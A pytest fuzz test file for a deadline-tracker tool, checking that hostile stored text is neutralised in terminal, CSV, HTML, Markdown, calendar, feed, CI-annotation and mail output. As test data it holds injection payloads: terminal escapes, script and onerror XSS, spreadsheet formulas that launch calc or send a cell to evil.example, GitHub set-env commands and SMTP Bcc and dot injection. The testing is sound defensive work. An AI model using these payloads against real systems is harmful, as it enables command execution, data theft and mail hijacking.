"""Whatever a text of a store contains, it reaches a terminal, a spreadsheet, a page or a mail only as text.

The stores are made from the key table: every key that holds a text holds the same hostile one, with the
name of its table and key behind it. So a key that is added is here as well, and has to be shown somewhere
or be named among those that are not.
"""

import csv
import io
import json
import re
import tomllib
import unicodedata
from collections.abc import Iterable, Mapping
from datetime import date
from email import message_from_bytes, policy
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, NamedTuple
from xml.etree import ElementTree as ET

import icalendar
import pytest
import tomli_w
from markdown_it import MarkdownIt

from tests.support.mail import HOST, Server, answering
from tests.support.running import Ran, Run
from tracker.changes import key_of
from tracker.engine import resolve
from tracker.export.plain import PLAIN_COLUMNS
from tracker.export.row import FIELDS
from tracker.model import AsOf
from tracker.notify import Smtp
from tracker.notify.smtp import to_server
from tracker.remind.message import Message, compose
from tracker.remind.notices import Notice, NoticeKind
from tracker.store import load, schema
from tracker.toml.schema import TableSchema, Type

pytestmark = pytest.mark.fuzz


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Server:
    """A mail server inside the process."""
    monkeypatch.setenv("TRACKER_PASSWORD", "hunter2")
    return answering(monkeypatch)


TEXTS = {
    "sequences of a terminal": (
        "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\ \x1b[2J"
    ),
    "controls": "good\x08\x08\x08\x08bad\x7f\x07\x00 a\x9b31mb\x90c\x9dd\x9ce",
    "directions": "\u202ea\u202db\u202c \u202ac\u202bd \u2066e\u2067f\u2068g\u2069 \u200eh\u200fi\u061cj",
    "lines and columns": "a\nb\rc\r\nd\u2028e\u2029f\x0bg\x0ch\x85i\tj\x1ck\x1dl\x1em\x1fn",
    "markup": "[/b][bold]x[/bold][link=https://evil.example]y[/link][/][@click=z]:smile: \\[b] [",
    "a table of Markdown": "a | b \\| c \\\\| `d | e` | --- | \\",
    "Markdown": "# *a* **b** _c_ ~~d~~ `e` [f](https://evil.example) ![g](x.png) <h@evil.example> \\` ``i",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)><!-- a --> <https://evil.example> & </td>",
    "entities of HTML": "&lt;b&gt; &#124; &#x3c;script&#62; &amp;amp; &copy;",
    "a formula": "=cmd|' /C calc'!A0",
    "cells of a spreadsheet": 'a","=1+1",",\r\n=1+1,"',
    "a command of GitHub and a mail": "::error::a\n::set-env n=B::c%0A,d\r\nBcc: a@evil.example\r\n\r\n.\r\n",
}
FORMULAS = {
    "link": '=HYPERLINK("https://evil.example?"&A1,"here")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "behind a tab": "\t=1+1",
    "behind a carriage return": "\r=1+1",
    "behind a line feed": "\n@SUM(1)",
    "behind an escape": "\x1b-1+1",
    "behind a blank": "  =1+1",
    "behind a blank of no break": "\u00a0+1+1",
    "in wide letters": "\uff1dcmd|' /C calc'!A0",
}
AS_OF = ("--as-of", "2026-11-22")
day = date.fromisoformat
KNOWN = {"known": day("2026-11-01")}
SGR = re.compile(r"\x1b\[[0-9;]*m")  # the tool's own colours
TURNING = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}  # bidirectional classes
MARKS = "\u200e\u200f\u061c"  # which change the direction of their neighbours


def steers(char: str) -> bool:
    """Whether a character is a control, ends a line, or changes the writing direction."""
    return (
        unicodedata.category(char) in {"Cc", "Zl", "Zp"}
        or unicodedata.bidirectional(char) in TURNING
        or char in MARKS
    )


def as_text(value: str) -> str:
    """What may be shown of a value: a blank for each run of what could steer."""
    harmless = "".join("\0" if steers(char) else char for char in value)
    return re.sub("\0+", " ", harmless)


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet may take a cell for a formula.

    Some ignore leading blanks, and in a Japanese environment the full-width signs count too.
    """
    return unicodedata.normalize("NFKC", cell).lstrip().startswith(("=", "+", "-", "@"))


# --- stores made from the key table --------------------------------------------------------------

Entry = dict[str, Any]
TABLES: Mapping[str, TableSchema] = {
    "event": schema.EVENT,
    "directive": schema.DIRECTIVE,
    "milestone": schema.MILESTONE,
    "repeal": schema.REPEAL,
    "done": schema.DONE,
    "disputed": schema.DISPUTED,
    "was": schema.WAS,
    "reading": schema.READING,
    "closing": schema.CLOSING,
    "record": schema.RECORD,
    "translation": schema.TRANSLATION,
}
# Texts that are read: they say where, when and how to count, and are wrong with anything else in them.
READ = {"jurisdiction", "tz", "counting", "calendar", "of", "at"}
# Texts that no command shows: they are there for a reader of the file.
NOT_SHOWN = {"event.accept", "directive.accept", "closing.accept", "closing.note"}


def texts(table: str, evil: str, behind: str = "") -> Entry:
    """The keys of a table that may hold any text, each with the hostile one and with its own name."""

    def value(name: str, type_: object) -> Any:  # noqa: ANN401  what TOML holds
        text = f"{evil} {table}.{name}{behind}"
        return {Type.TEXT: text, Type.TEXTS: [text, f"{text}!"], Type.NAMES: {f"{name}.x": text}}.get(
            type_ if isinstance(type_, Type) else Type.TABLE
        )

    entries = {name: value(name, key.type) for name, key in TABLES[table].items() if name not in READ}
    return {name: each for name, each in entries.items() if each is not None}


def readable(evil: str) -> Entry:
    """A store that can be read whole: every passage has another reason to say its texts."""

    def directive(id_: str, **keys: object) -> Entry:
        common = {name: each for name, each in texts("directive", evil).items() if name != "undated"}
        common["ja"] = texts("translation", evil)
        return {"id": id_, **common, "title": f"{evil} directive.title {id_}", **keys}

    due = "5 days after signed"
    repeal = {"on": day("2026-12-20"), **KNOWN, **texts("repeal", evil)}
    disputed = {"date": day("2026-11-01"), **texts("disputed", evil, " of a repeal")}
    common = {"kind": "statute", "jurisdiction": "US", "dates": {"signed": day("2026-12-01")}, **KNOWN}
    common["ja"] = texts("translation", evil)
    reading = texts("reading", evil)
    owned = {name: each for name, each in texts("record", evil).items() if name in {"owner", "progress"}}
    recorded = {name: each for name, each in texts("record", evil).items() if name not in owned}
    return {
        "event": [
            {
                "id": "h",
                **texts("event", evil),
                **common,
                "counting": "1-cfr-18.17",
                "directive": [
                    directive("fixed", due=day("2026-12-01")),
                    directive(
                        "moved",
                        due=day("2026-12-02"),
                        was=[{"due": due, "changed": day("2026-11-05"), **texts("was", evil)}],
                    ),
                    directive(
                        "read", readings=[{"due": due, **reading}, {"due": day("2026-12-24"), **reading}]
                    ),
                    directive("open", undated=texts("directive", evil)["undated"]),
                    directive(
                        "done",
                        due=day("2026-11-20"),
                        done={
                            "on": day("2026-11-21"),
                            **texts("done", evil),
                            "disputed": {"date": day("2026-11-01"), **texts("disputed", evil)},
                        },
                    ),
                    directive("then", due="10 days after done"),
                    directive("dropped", due=day("2027-12-01"), dropped={**repeal, "disputed": disputed}),
                    directive("closed", due="10 days after signed"),  # the 11th: the closing below
                    directive("clock", due="10 days after each incidents.x"),
                    directive("soon", due="10 days after awaiting.x"),
                    directive("extended", due=day("2026-11-30")),
                    directive("recorded", due=day("2026-11-20")),
                    directive("cited", due=day("2026-11-20")),
                ],
            },
            {
                "id": "revoked",
                **texts("event", evil),
                **common,
                "revoked": {**repeal, "disputed": disputed},
                "directive": [directive("1", due=day("2027-01-05"))],
            },
        ],
        "closing": [{"calendar": "US", "date": day("2026-12-11"), **KNOWN, **texts("closing", evil)}],
        "record": [
            {"of": "h/extended", "due": day("2026-12-03"), **KNOWN, **recorded},
            {"of": "h/cited", "done": day("2026-11-20"), **recorded},
            {"of": "h/recorded", "done": day("2026-11-20"), "by": f"{evil} record.by"},
            {"of": "h/fixed", **recorded},
            {"of": "h/fixed", **owned},
        ],
    }


def all_texts(table: str) -> set[str]:
    """The names of the keys of a table that may have any text, as they follow it."""
    return {f"{table}.{name}" for name in texts(table, "")}


def broken(evil: str) -> Entry:
    """A store in which each key of each table, whatever its type, holds the hostile text once."""
    good: dict[str, Entry] = {
        "event": {"title": "An Act", "kind": "statute", "jurisdiction": "US", "cite": "1"},
        "directive": {"id": "1", "title": "Do it", "cite": "1", "due": day("2026-12-01")},
        "milestone": {"on": day("2026-11-01")},
        "repeal": {"on": day("2026-12-20")},
        "done": {"on": day("2026-11-20"), "cite": "1"},
        "disputed": {"date": day("2026-11-20")},
        "was": {"due": day("2026-11-20"), "changed": day("2026-11-01")},
        "reading": {"due": day("2026-12-01"), "why": "so"},
        "closing": {"calendar": "US", "date": day("2026-12-11"), "title": "a", "by": "b"},
        "record": {"of": "e0/1", "done": day("2026-11-20")},
        "translation": {},
    }
    tables = {name: [{**good[name], key: evil} for key in (*keys, evil)] for name, keys in TABLES.items()}
    tables["event"] += [{**good["event"], key: {evil: evil}} for key in ("dates", "awaiting", "incidents")]
    directives = [
        *tables["directive"],
        *({**good["directive"], "done": each} for each in tables["done"]),
        *({**good["directive"], "dropped": each} for each in tables["repeal"]),
        *({**good["directive"], "was": [each]} for each in tables["was"]),
        *({**good["directive"], "done": {**good["done"], "disputed": each}} for each in tables["disputed"]),
        *(
            {**{key: each for key, each in good["directive"].items() if key != "due"}, "readings": [one, one]}
            for one in tables["reading"]
        ),
    ]
    events = [
        *tables["event"],
        *({**good["event"], "directive": [each]} for each in directives),
        *({**good["event"], "dates": {"signed": each}} for each in tables["milestone"]),
        *({**good["event"], "ja": each} for each in tables["translation"]),
    ]
    named = [{"id": f"e{number}", **event} for number, event in enumerate(events)]
    whole = {"event": named, "closing": tables["closing"], "record": tables["record"]}
    return {**dict.fromkeys((*(each for each in schema.FILE if each not in whole), evil), evil), **whole}


def written(folder: Path, store: Entry) -> Path:
    """The file that holds a store."""
    path = folder / "store.toml"
    path.write_text(tomli_w.dumps(store), encoding="utf-8", newline="")
    return path


# --- what holds for whatever is printed ----------------------------------------------------------


def assert_harmless(ran: Ran, but: str = "") -> None:
    """No character of the output steers anything; ``but`` is what the format itself is made of."""
    for stream in (ran.out, ran.err):
        assert {char for char in stream if steers(char)} <= {"\n", *but}


def strings(value: object) -> Iterable[str]:
    """Every text in a JSON value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for each in value.values() if isinstance(value, dict) else value:
            yield from strings(each)


class Hostile(NamedTuple):
    """A store of hostile texts, and how to ask about it on a wide screen."""

    evil: str
    run: Run
    store: Path

    def ask(self, *args: object) -> Ran:
        return self.run(*args, "--store", self.store, *AS_OF)

    def rows(self) -> list[dict[str, Any]]:
        """The deadlines of the report, as JSON says them."""
        found: list[dict[str, Any]] = json.loads(self.ask("report", "--all", "--format", "json").out)[
            "deadlines"
        ]
        return found

    def due(self) -> Message:
        """A reminder of everything that has a day."""
        store, problems = load([str(self.store)])
        assert not problems
        result = resolve(store, AsOf(day=day(AS_OF[1])))
        listed = [each for each in result.deadlines if each.due]
        return compose([Notice(NoticeKind.REMINDER, key_of(each), each, None, None) for each in listed])


@pytest.fixture(params=list(TEXTS.values()), ids=list(TEXTS))
def evil(request: pytest.FixtureRequest) -> str:
    """One hostile text after the other."""
    text = request.param
    assert isinstance(text, str)
    return text


@pytest.fixture
def hostile(evil: str, run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Hostile:
    """The readable store, on a screen so wide that lines are not folded."""
    monkeypatch.setenv("COLUMNS", "1000")
    return Hostile(evil, run, written(tmp_path, readable(evil)))


PAGES: tuple[tuple[str, ...], ...] = (
    ("report", "--all"),
    ("show", "h"),
    ("show", "revoked"),
    *(("show", f"h/{id_}") for id_ in ("fixed", "moved", "read", "open", "done", "dropped")),
    *(("show", f"h/{id_}") for id_ in ("extended", "cited")),
    *(("why", f"h/{id_}") for id_ in ("moved", "read", "then", "closed", "clock", "soon", "extended")),
    ("why", "h/recorded"),
    ("why", "revoked/1"),
)
FEW = (("report", "--all"), ("show", "h"), ("show", "h/read"), ("why", "h/moved"))


def test_every_text_is_shown_as_it_stands(hostile: Hostile) -> None:
    """In a terminal, markup is not interpreted and nothing is left out; control characters become blanks."""
    pages = [hostile.ask(*page) for page in PAGES]
    pages += [hostile.ask(*page, "--lang", "ja") for page in FEW]
    for ran in pages:
        assert (ran.status, ran.err) == (0, "")
        assert_harmless(ran)
    said = "\n".join(ran.out for ran in pages)
    shown = as_text(f"{hostile.evil} ")
    found = {each for table in TABLES for each in all_texts(table) if f"{shown}{each}" in said}
    assert found == {each for table in TABLES for each in all_texts(table)} - NOT_SHOWN


def test_colours_are_all_that_is_added(hostile: Hostile) -> None:
    """With colour the text is the same, and only colour sequences are added."""
    for page in FEW:
        plain, coloured = (hostile.ask(*page, "--color", when) for when in ("never", "always"))
        assert SGR.search(coloured.out)
        lines = SGR.sub("", coloured.out).split("\n")  # a colour may end behind the blanks of a line
        assert [line.rstrip() for line in lines] == plain.out.split("\n")
        assert coloured.err == plain.err


@pytest.mark.parametrize("columns", [20, 100])
def test_folding_brings_nothing_back(hostile: Hostile, monkeypatch: pytest.MonkeyPatch, columns: int) -> None:
    """However narrow the screen, with colour or without, in each language."""
    monkeypatch.setenv("COLUMNS", str(columns))
    for page in ((*each, "--lang", language) for each in FEW for language in ("en", "ja")):
        assert_harmless(hostile.ask(*page, "--color", "never"))
        coloured = hostile.ask(*page, "--color", "always")
        assert_harmless(coloured._replace(out=SGR.sub("", coloured.out)))


def test_json_parses_back_to_the_value(hostile: Hostile) -> None:
    """Every character is in the document, and none of them as itself when it could steer."""
    ran = hostile.ask("report", "--all", "--format", "json")
    assert_harmless(ran)
    by_id = {row["id"]: row for row in json.loads(ran.out)["deadlines"]}
    row, evil = by_id["h/moved"], hostile.evil
    assert row["title"] == f"{evil} directive.title moved"
    assert row["event_title"] == f"{evil} event.title"
    assert row["actor"] == [f"{evil} directive.actor", f"{evil} directive.actor!"]
    assert row["tags"] == [f"{evil} event.tags", f"{evil} event.tags!"]
    texts_of = {name: row[name] for name in ("cite", "event_cite", "url", "scope", "note")}
    assert texts_of == {
        **{name: f"{evil} directive.{name}" for name in ("cite", "url", "scope", "note")},
        "event_cite": f"{evil} event.cite",
    }
    assert (row["was"][0]["by"], row["was"][0]["cite"]) == (f"{evil} was.by", f"{evil} was.cite")
    assert by_id["h/open"]["undated"] == f"{evil} directive.undated"
    assert [each["why"] for each in by_id["h/read"]["readings"]] == [f"{evil} reading.why"] * 2
    assert by_id["revoked/1"]["revoked_by"] == f"{evil} repeal.by"
    assert f"{evil} record.note" in by_id["h/fixed"]["note"]
    steps = "\n".join(strings(by_id["h/closed"]["derivation"]))
    assert f"{evil} closing.title ({evil} closing.by)" in steps


def test_plain_keeps_its_columns(hostile: Hostile) -> None:
    """A line for each deadline, ten columns in each, and the texts as they may be shown."""
    ran = hostile.ask("report", "--all", "--format", "plain")
    assert_harmless(ran, but="\t")
    lines = ran.out.split("\n")
    assert lines.pop() == ""
    rows = hostile.rows()
    assert len(lines) == len(rows)
    for line, row in zip(lines, rows, strict=True):
        cells = dict(zip(PLAIN_COLUMNS, line.split("\t"), strict=True))
        assert cells["title"] == as_text(row["title"])
        assert cells["actor"] == as_text(", ".join(row["actor"]))
        assert cells["cite"] == as_text(row["cite"])


def assert_csv_parses_back(hostile: Hostile) -> None:
    """Every cell is that of the json document as it may be shown, a formula with an apostrophe before it."""
    ran = hostile.ask("report", "--all", "--format", "csv")
    assert_harmless(ran, but="\r")
    assert ran.out.count("\r") == ran.out.count("\r\n")
    listed, rows = list(csv.reader(io.StringIO(ran.out, newline=""))), hostile.rows()
    assert listed.pop(0) == list(FIELDS)
    assert len(listed) == len(rows)
    for cells, row in zip(listed, rows, strict=True):
        for name, cell in zip(FIELDS, cells, strict=True):
            value = row[name]
            if isinstance(value, list) and all(isinstance(each, str) for each in value):
                value = "; ".join(value)
            if isinstance(value, str):
                text = as_text(value)
                assert cell == (f"'{text}" if is_formula(text) else text), name
            elif not isinstance(value, int):
                assert not is_formula(cell), name


PROPERTIES = {
    *("UID", "DTSTAMP", "LAST-MODIFIED", "SEQUENCE", "DTSTART", "DTEND", "DUE", "STATUS", "SUMMARY"),
    *("DESCRIPTION", "URL", "CATEGORIES", "COLOR", "TRANSP", "COMPLETED", "PERCENT-COMPLETE"),
    *(f"X-TRACKER-{name}" for name in ("CITE", "TITLE", "ACTOR", "DUE", "URL")),
}


@pytest.mark.parametrize("options", [(), ("--todo", "--alarms")], ids=["events", "tasks"])
def test_a_calendar_has_texts_as_values_only(hostile: Hostile, options: tuple[str, ...]) -> None:
    """No text starts a line, a property or an entry, and each is read as it may be shown."""
    ran = hostile.ask("export", "ics", *options)
    assert_harmless(ran, but="\r")
    assert ran.out.count("\r") == ran.out.count("\n") == ran.out.count("\r\n")
    calendar: Any = icalendar.Calendar.from_ical(ran.out)
    entries = {str(each["UID"]).partition("@")[0]: each for each in calendar.subcomponents}
    dated = {row["id"] for row in hostile.rows() if row["due"]}
    assert entries.keys() == dated
    for entry in entries.values():
        assert not entry.errors
        assert set(entry) <= PROPERTIES
        assert {each.name for each in entry.subcomponents} <= {"VALARM"}
    entry, evil = entries["h/moved"], hostile.evil
    assert entry["SUMMARY"] == as_text(f"{evil} directive.title moved ({evil} event.short)")
    for text in (
        f"{evil} event.title",
        f"{evil} directive.actor",
        f"{evil} was.by",
        f"{evil} directive.note",
    ):
        assert as_text(text) in entry["DESCRIPTION"]
    assert [str(each) for each in entry["CATEGORIES"].cats][2:] == [
        *(as_text(f"{evil} event.tags"), as_text(f"{evil} event.tags!")),
    ]


def test_a_feed_has_texts_as_values_only(hostile: Hostile) -> None:
    """No text starts an element or an entity."""
    ran = hostile.ask("export", "atom")
    assert_harmless(ran)
    root, evil = ET.fromstring(ran.out), hostile.evil  # noqa: S314  our own
    space = "{http://www.w3.org/2005/Atom}"
    assert {each.tag.removeprefix(space) for each in root.iter()} == {
        *("feed", "title", "id", "updated", "author", "name", "entry", "category", "content"),
    }
    titles = [each.text for each in root.iter(f"{space}title")]
    assert as_text(f"Moved: {evil} directive.title moved ({evil} event.short)") in titles
    terms = {each.get("term") for each in root.iter(f"{space}category")}
    assert as_text(f"{evil} event.tags") in terms


ELEMENTS = {
    *("html", "head", "meta", "title", "style", "body", "script", "header", "main", "section", "footer"),
    *("h1", "h2", "h3", "p", "a", "b", "s", "ul", "ol", "li", "dl", "dt", "dd", "div", "svg", "text", "rect"),
    *("time", "details", "summary", "cite", "code"),
}


class Shown(HTMLParser):
    """The elements of a page, the texts of its items, and where its links lead."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.links: list[str] = []
        self.texts: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]
        assert not any(name.startswith("on") for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def test_a_page_has_texts_as_text_only(hostile: Hostile) -> None:
    """No text starts an element, an attribute or a link, and each is read as it may be shown."""
    ran = hostile.ask("export", "html")
    assert_harmless(ran)
    evil, page = hostile.evil, Shown(ran.out)
    assert page.elements <= ELEMENTS
    assert ran.out.count("<script>") == ran.out.count("</script>") == 1
    assert all(link.startswith(("#", "https://")) for link in page.links)
    assert not [link for link in page.links if "evil" in link]
    assert as_text(f"{evil} directive.title moved") in page.texts
    assert as_text(f"{evil} directive.note") in "".join(page.texts)


def test_a_fragment_for_a_mail_has_texts_as_text_only(hostile: Hostile) -> None:
    """It has no script and no style sheet at all, nothing but tables, links of the web and plain letters."""
    ran = hostile.ask("report", "--all", "--format", "html")
    assert_harmless(ran)
    evil, page = hostile.evil, Shown(ran.out)
    assert page.elements <= {"p", "table", "tr", "th", "td", "a", "b", "i", "br", "span", "time"}
    assert all(link.startswith("https://") for link in page.links)
    assert not [link for link in page.links if "evil" in link]
    assert ran.out.isascii()
    assert as_text(f"{evil} directive.title moved") in "".join(page.texts)


def test_a_site_has_texts_as_text_only(hostile: Hostile, tmp_path: Path) -> None:
    """On every page, in the slider, in every document, calendar and feed; and no file is called like one."""
    ran = hostile.ask("site", tmp_path / "site")
    assert (ran.status, ran.err) == (0, "")
    texts_of = {
        path.relative_to(tmp_path / "site").as_posix(): path.read_bytes().decode()
        for path in (tmp_path / "site").rglob("*")
        if path.is_file()
    }
    assert {path.rpartition("/")[2] for path in texts_of} == {
        *("index.html", "deadlines.ics", "feed.atom", "as-of.js", "groups.html", "follow.html"),
        *("deadlines.json", "groups.json", "store.js"),
    }
    shown = as_text(f"{hostile.evil} directive.title moved")
    assert shown in texts_of["index.html"] or shown in Shown(texts_of["index.html"]).texts
    for path, text in texts_of.items():
        assert re.fullmatch(r"[a-z0-9._/-]+", path)
        assert_harmless(ran._replace(out=text), but="\r" if path.endswith(".ics") else "")
        if path.endswith(".html"):
            page = Shown(text)
            assert page.elements <= ELEMENTS | {"nav", "link"}
            assert text.count("<script") == text.count("</script>") <= 2
            assert not [link for link in page.links if "evil" in link and ":" in link]
        elif path.endswith(".atom"):
            titles = [each.text for each in ET.fromstring(text).iter("{http://www.w3.org/2005/Atom}title")]  # noqa: S314
            assert len(titles) == text.count("<title>")
        elif path.endswith(".ics"):
            assert set().union(*icalendar.Calendar.from_ical(text).subcomponents) <= PROPERTIES
        elif path.endswith(".json"):
            assert json.loads(text)["schema_version"] == 1
    data = json.loads(texts_of["as-of.js"].partition("\n")[0].removeprefix("const asOf = ").removesuffix(";"))
    assert data["rows"]


def test_a_part_of_a_store_has_every_text(hostile: Hostile) -> None:
    """As in the store, written so that it can be printed."""
    text = hostile.store.read_text(encoding="utf-8")
    hostile.store.write_text(f"checked = 2026-11-22\n{text}", encoding="utf-8", newline="")
    ran = hostile.run("export", "toml", "--store", hostile.store)
    assert_harmless(ran, but="\t")
    before, after = (tomllib.loads(text) for text in (hostile.store.read_text(encoding="utf-8"), ran.out))
    assert sorted(strings(after["event"])) == sorted(strings(before["event"]))
    assert after["record"] == before["record"]


def test_csv_parses_back_to_the_value(hostile: Hostile) -> None:
    """Quotes, separators and line ends in a text do not start a cell or a line."""
    assert_csv_parses_back(hostile)


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS)
def test_no_cell_is_a_formula(formula: str, run: Run, tmp_path: Path) -> None:
    """Whatever sign begins it, and whatever comes before that and is dropped or becomes a blank."""
    assert_csv_parses_back(Hostile(formula, run, written(tmp_path, readable(formula))))


def test_markdown_renders_as_the_value(hostile: Hostile) -> None:
    """A reader of Markdown finds a table with its nine columns, and nothing but text in a cell."""
    ran = hostile.ask("report", "--all", "--format", "md")
    assert_harmless(ran)
    head, _, rest = ran.out.partition("\n")
    assert re.fullmatch(r"\*\*Deadlines as of \w{3} [\d-]{10}\*\*", head)
    tokens = MarkdownIt("commonmark").enable("table").parse(rest)
    assert not {token.type for token in tokens} & {"html_block", "code_block", "fence", "hr"}
    found = [token.children or [] for token in tokens if token.type == "inline"]
    # An empty comment keeps a name from being a mention; nothing links, as no address is one of the web.
    kept = [child for cell in found for child in cell if child.content != "<!---->"]
    assert {child.type for child in kept} <= {"text", "softbreak"}
    cells = ["".join(child.content for child in cell if child.content != "<!---->") for cell in found]
    rows = hostile.rows()
    assert sum(token.type == "tr_open" for token in tokens) == len(rows) + cells.count("Due")
    assert sum(token.type == "td_open" for token in tokens) == 9 * len(rows)
    names = {row["key"] for row in rows}
    by_id = {
        cells[at]: (cells[at - 5], cells[at - 3], cells[at + 1])
        for at in range(5, len(cells))
        if cells[at] in names
    }
    for row in rows:
        what, who, passage = by_id[row["key"]]
        assert f"{what};".startswith(f"{as_text(row['title']).strip()};")
        assert who == as_text(", ".join(row["actor"])).strip()
        assert passage == as_text(row["cite"]).strip()


# --- reminders -----------------------------------------------------------------------------------


def test_a_reminder_has_a_line_for_each_text(hostile: Hostile, tmp_path: Path) -> None:
    """Title, actor, citation, reason and address are below the day, whatever they contain."""
    ran = hostile.ask("remind", "--dry-run", "--ledger", tmp_path / "ledger.db")
    assert (ran.status, ran.err) == (0, "")
    assert_harmless(ran)
    lines = ran.out.split("\n")
    evil = hostile.evil
    at = next(number for number, line in enumerate(lines) if line.endswith("  h/extended"))
    below = [line.removeprefix("    ") for line in lines[at + 1 : at + 5]]
    actors = f"{evil} directive.actor, {evil} directive.actor!"
    assert below[0] == as_text(f"{evil} directive.title extended")
    assert below[1] == as_text(f"{actors} · {evil} event.cite · {evil} directive.cite")
    assert below[3] == as_text(f"{evil} directive.url")
    assert lines[at + 5] == ""


def test_a_list_of_reminders_has_a_line_for_each(hostile: Hostile, tmp_path: Path) -> None:
    """Each reminder to be sent is on one line."""
    ran = hostile.ask("remind", "--list", "--ledger", tmp_path / "ledger.db")
    assert_harmless(ran)
    lines = [line for line in ran.out.splitlines() if "h/fixed" in line]
    assert lines
    assert all(line.endswith(as_text(f"  {hostile.evil} directive.title fixed")) for line in lines)


def test_a_program_reads_the_value(hostile: Hostile) -> None:
    """The JSON document of a reminder has the whole texts, and only printable ASCII."""
    text = json.dumps(hostile.due().as_json("team"))
    assert text.isascii()
    assert text.isprintable()
    rows = {each["id"]: each["deadline"] for each in json.loads(text)["notices"]}
    assert rows["h/fixed"]["title"] == f"{hostile.evil} directive.title fixed"
    assert rows["h/fixed"]["event_title"] == f"{hostile.evil} event.title"


def test_a_mail_has_one_subject_and_one_body(hostile: Hostile, server: Server) -> None:
    """No text becomes a header, an address or the end of a mail: it is in the body as printed."""
    sent = hostile.due()
    to_server(sent, "me", Smtp(host=HOST, sender="a@example.org", to=("b@example.org",)))
    (raw,) = server.mails
    mail = message_from_bytes(re.sub(rb"(?m)^\.\.", b".", raw), policy=policy.SMTP)  # RFC 5321, 4.5.2
    assert {name.lower() for name in mail} == {
        *("subject", "from", "to", "date", "message-id", "auto-submitted"),
        *(("in-reply-to", "references") if len(sent.notices) == 1 else ()),
        *("content-type", "content-transfer-encoding", "mime-version"),
    }
    assert server.addresses("RCPT TO") == ["<b@example.org>"]
    assert "evil" not in f"{mail['Subject']} {mail['From']} {mail['To']}"
    assert mail["Subject"] == sent.subject
    body = mail.get_content().replace("\r\n", "\n")
    assert body == sent.text
    assert {char for char in body if steers(char)} <= {"\n"}


# --- counting without a store --------------------------------------------------------------------


def test_a_closing_is_a_reason_of_calc(hostile: Hostile) -> None:
    """Its words are in the step that moves the date, harmless in text, and complete in JSON."""
    question = ("calc", "10 days after 2026-12-01", "--counting", "1-cfr-18.17")
    ran = hostile.ask(*question)
    assert_harmless(ran)
    assert as_text(f"{hostile.evil} closing.title ({hostile.evil} closing.by)") in ran.out
    as_json = hostile.ask(*question, "--format", "json")
    assert_harmless(as_json)
    said = "\n".join(strings(json.loads(as_json.out)))
    assert f"{hostile.evil} closing.title ({hostile.evil} closing.by)" in said
    for format_ in ("text", "plain", "json"):
        every = hostile.ask(*question, "--all-conventions", "--format", format_)
        assert_harmless(every, but="\t" if format_ == "plain" else "")


# --- stores with problems ------------------------------------------------------------------------


@pytest.fixture
def wrong(evil: str, run: Run, tmp_path: Path) -> Hostile:
    """The store in which every key holds the text."""
    return Hostile(evil, run, written(tmp_path, broken(evil)))


def test_every_key_that_is_no_text_is_a_problem(wrong: Hostile) -> None:
    """In JSON a message has the exact text; the text output has a line that begins with the file for each."""
    ran = wrong.ask("check", "--format", "json")
    assert ran.status == 1
    assert_harmless(ran)
    problems = json.loads(ran.out)["problems"]
    said = [each["message"] for each in problems]
    assert said.count(f"unknown key `{wrong.evil}`") == len(TABLES) + 2  # with the file; readings are two
    assert f"`kind` cannot be `{wrong.evil[:40]}`" in said
    assert f"`known` must be {Type.DATE.value}, not the text `{wrong.evil[:40]}`" in said
    # Each key that holds anything but text, of each table; some of them in several places.
    refused = {each["message"].partition("`")[2].partition("`")[0] for each in problems}
    for keys in (*TABLES.values(), schema.FILE):
        typed = {name for name, key in keys.items() if key.type not in {Type.TEXT, Type.TEXTS}}
        free = {"due", "until", "repeat", "for", "on", *(schema.FILE.keys() & {"event", "closing", "record"})}
        assert typed - free <= refused
    text = wrong.ask("check")
    assert_harmless(text)
    heads = [line for line in text.out.split("\n") if line.startswith(f"{wrong.store}:")]
    assert len(heads) == len(problems)


def test_an_annotation_is_one_line(wrong: Hostile) -> None:
    """Each is a command of its own, with a file, a line, a column and a rule, and the message is one text."""
    ran = wrong.ask("check", "--format", "github")
    assert_harmless(ran)
    problems = json.loads(wrong.ask("check", "--format", "json").out)["problems"]
    lines = ran.out.split("\n")
    assert lines.pop() == ""
    assert len(lines) == len(problems)
    for line, problem in zip(lines, problems, strict=True):
        assert line.startswith(("::error ", "::warning "))
        head, _, message = line.partition(" ")[2].partition("::")
        fields = dict(field.split("=", 1) for field in head.split(","))
        assert list(fields) == ["file", "line", "col", "title"]
        assert fields["title"] == problem["rule"]
        assert (fields["line"], fields["col"]) == (str(problem["line"]), str(problem["column"]))
        assert "%" not in re.sub("%25|%0A|%0D", "", message)
        assert as_text(problem["message"])[1:] in message.replace("%25", "%")


QUESTIONS: tuple[tuple[str, ...], ...] = (
    *(("report", "--all", "--format", name) for name in ("table", "plain", "json", "csv", "md", "html")),
    ("report", "--all", "--color", "always"),
    ("show", "e0"),
    ("show", "nowhere"),
    ("why", "nowhere/1"),
    ("report", "--tag", "nowhere"),
    ("remind", "--dry-run", "--ledger", "ledger.db"),
    ("calc", "10 days after 2026-12-01"),
)


def test_a_problem_is_one_line_on_stderr(
    wrong: Hostile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It begins with the file, or with the program for a usage error; the output is equally harmless."""
    monkeypatch.chdir(tmp_path)
    for question in QUESTIONS:
        ran = wrong.ask(*question)
        assert ran.status in {1, 2}
        assert_harmless(ran._replace(out=SGR.sub("", ran.out)), but="\t\r")
        lines = ran.err.split("\n")
        assert lines.pop() == ""
        assert lines
        assert all(line.startswith((f"{wrong.store}:", "tracker: ")) for line in lines)


